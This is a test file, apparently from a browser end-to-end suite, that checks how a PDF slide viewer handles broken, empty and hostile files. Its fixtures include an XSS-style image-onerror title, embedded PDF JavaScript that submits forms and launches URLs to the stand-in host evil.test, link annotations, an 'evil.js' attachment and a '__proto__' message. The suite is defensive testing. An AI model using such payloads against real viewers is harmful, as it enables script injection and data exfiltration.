import assert from 'node:assert/strict';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { makePdf, makeScan } from '../../support/decks/makePdf';
import { DeckInBrowser } from '../../support/pages/deckInBrowser';
import { intuition, proof, proofPdf } from '../../support/pages/proofDeck';

/** Closing the page fails where anything ran or was loaded: that is half of each test. */
describe('broken and hostile PDFs in the page', () => {
  let deck: DeckInBrowser;

  beforeEach(async () => {
    deck = await DeckInBrowser.open();
  });

  afterEach(() => deck.hasNotTripped());

  const bytesOf = (text: string) => new TextEncoder().encode(text);

  for (const [what, bytes] of [
    ['a PDF that breaks off in its head', bytesOf('%PDF-1.7\nno more')],
    ['a web page', bytesOf('<!doctype html><script>trip("ran")</script>')],
    ['an empty file', new Uint8Array()],
    ['zeros', new Uint8Array(100_000)],
  ] as const) {
    it(`says what is wrong with ${what}, and the next PDF opens`, async () => {
      await deck.openDeck(bytes, intuition, '<b>06</b>.pdf');
      const trouble = deck
        .notice('<b>06</b>.pdf is damaged or isn’t a PDF')
        .and(deck.page.getByRole('alert'));
      await trouble.waitFor();
      assert.ok(await deck.button('Crop…').isDisabled());
      await deck.openDeck(await proofPdf(), intuition);
      await deck.waitUntilRanked();
      await deck.press('Escape');
      await deck.hear('close');
    });
  }

  it('closes from the notice of a broken one', async () => {
    await deck.openDeck(bytesOf('%PDF-1.7\nno more'), intuition);
    await deck.notice('is damaged or isn’t a PDF').waitFor();
    await deck.press('Enter', 'c', '/', 'Escape');
    await deck.hear('close');
    assert.deepEqual(await deck.saidTypes(), ['ready', 'close']);
  });

  it('opens a PDF whose end is missing, as programs that read such files do', async () => {
    const pdf = await PDFDocument.load(await proofPdf());
    const whole = await pdf.save({ useObjectStreams: false });
    await deck.openDeck(whole.slice(0, Buffer.from(whole).lastIndexOf('startxref')), intuition);
    await deck.waitUntilRanked();
    assert.equal(await deck.slides().count(), proof.slides.length);
  });

  it('shows a scan, and says that its slides have no words', async () => {
    await deck.openDeck(await makeScan(4), intuition);
    await deck.slide(4).locator('canvas[data-drawn]').waitFor();
    await deck.status('This PDF has no text').waitFor();
    assert.equal(await deck.slides('best').count(), 0);
    await deck.press('End', 'Enter');
    const { pictures } = await deck.hear('take');
    assert.deepEqual(
      pictures.map(({ page, title }) => ({ page, title })),
      [{ page: 4, title: '' }],
    );
  });

  it('shows titles as text, whatever they are', async () => {
    const title = '<img src=x onerror=trip(1)>';
    await deck.openDeck(await makePdf([{ title, lines: ['intuition of correctness'] }]), intuition);
    await deck.frame.locator('.label', { hasText: title }).first().waitFor();
    assert.equal(await deck.frame.locator('img').count(), 0);
  });

  it('runs no script of a PDF, follows no link and opens no attachment', async () => {
    const pdf = await PDFDocument.create();
    const page = pdf.addPage([960, 540]);
    page.drawText('Intuition of correctness', {
      x: 40,
      y: 400,
      size: 30,
      font: await pdf.embedFont(StandardFonts.Courier),
    });
    const script = {
      Type: 'Action',
      S: 'JavaScript',
      JS: PDFString.of('app.alert("ran"); this.submitForm("https://evil.test")'),
    };
    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(script));
    const link = {
      ...{ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 960, 540] },
      A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://evil.test/') },
    };
    const launch = {
      ...{
        Type: 'Annot',
        Subtype: 'Widget',
        FT: 'Btn',
        T: PDFHexString.fromText('b'),
        Rect: [0, 0, 960, 540],
      },
      AA: { E: script, PO: { Type: 'Action', S: 'URI', URI: PDFString.of('https://evil.test/') } },
    };
    page.node.set(PDFName.of('Annots'), pdf.context.obj([link, launch]));
    page.node.set(PDFName.of('AA'), pdf.context.obj({ O: script }));
    await pdf.attach(bytesOf('trip()'), 'evil.js', { mimeType: 'text/javascript' });
    pdf.addJavaScript('main', 'app.launchURL("https://evil.test", true)');
    await deck.openDeck(await pdf.save(), intuition);
    await deck.waitUntilRanked();
    await deck.slide(1).click();
    assert.equal(await deck.frame.locator('a').count(), 0);
    assert.equal(deck.page.context().pages().length, 1);
    assert.ok(!(await deck.saidTypes()).includes('surprise'));
  });

  it('draws, reads and takes the slides beside a broken one', async () => {
    const pdf = await PDFDocument.load(
      await makePdf([{ title: 'One' }, { title: 'Two' }, { title: 'Three' }]),
    );
    // The second page's contents are no stream, and its fonts are a number.
    pdf.getPage(1).node.set(PDFName.of('Contents'), pdf.context.obj({ Length: 9 }));
    pdf.getPage(1).node.set(PDFName.of('Resources'), pdf.context.obj({ Font: 7 }));
    await deck.openDeck(await pdf.save(), intuition);
    await deck.frame.locator('[aria-label="Slide 3: Three"]').first().waitFor();
    await deck.slide(3).locator('canvas[data-drawn]').waitFor();
    await deck.slide(3).dblclick();
    const { pictures } = await deck.hear('take');
    assert.equal(pictures[0]?.title, 'Three');
  });

  it('draws pages of any size without filling the memory', async () => {
    const pdf = await PDFDocument.create();
    for (const size of [
      [14_400, 14_400],
      [1, 1],
      [14_400, 2],
      [3, 14_400],
    ] as const)
      pdf.addPage([...size]);
    await deck.openDeck(await pdf.save(), intuition);
    await deck.status('This PDF has no text').waitFor();
    for (const [i, [width, height]] of [
      [4096, 4096],
      [6, 6],
      [4096, 1],
      [1, 4096],
    ].entries()) {
      await deck.slide(i + 1).dblclick();
      const { pictures } = await deck.hear('take');
      const bytes = Buffer.from(pictures[0]!.bytes);
      // [PNG, 11.2.1: the sizes are the first fields of the first chunk]
      assert.deepEqual([bytes.readUInt32BE(16), bytes.readUInt32BE(20)], [width, height]);
      await deck.post({ type: 'notTaken' });
    }
  });

  it('passes over what is no message of its host', async () => {
    await deck.openDeck(await proofPdf(), intuition);
    await deck.waitUntilRanked();
    for (const message of [
      { type: 'open', name: 'x.pdf', bytes: 'no bytes', aim: intuition, attached: [] },
      { type: 'aim', aim: { ...intuition, left: -1 }, taken: 0, isOther: false },
      { type: 'aim', aim: { ...intuition, wish: undefined }, taken: 0, isOther: true },
      { type: 'sendText', pictures: 'yes' },
      { type: '__proto__' },
    ])
      await deck.post(message);
    await deck.press('Enter');
    await deck.hear('take');
    assert.deepEqual(await deck.saidTypes(), ['ready', 'opened', 'take']);
  });
});
